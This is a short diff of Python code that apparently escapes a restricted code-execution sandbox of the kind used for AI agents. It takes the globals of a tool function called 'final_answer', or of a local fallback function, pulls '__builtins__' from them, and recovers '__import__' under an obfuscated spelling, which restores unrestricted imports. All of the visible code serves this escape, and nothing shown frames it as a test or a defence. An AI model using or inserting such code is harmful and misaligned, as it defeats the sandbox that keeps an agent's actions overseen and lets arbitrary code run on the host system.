@@ -4,10 +4,15 @@
 # Requires: stdlib (operator)
 import operator
 
+
+def local_function():
+    return None
+
+
 try:
     pivot = final_answer
 except NameError:
-    pivot = lambda: None
+    pivot = local_function
 host_globals = operator.attrgetter("__globals__")(pivot)
 builtins_ns = host_globals["__builtins__"]
 importer = builtins_ns["__import__"] if isinstance(builtins_ns, dict) else getattr(builtins_ns, "_" * 2 + "import" + "_" * 2)
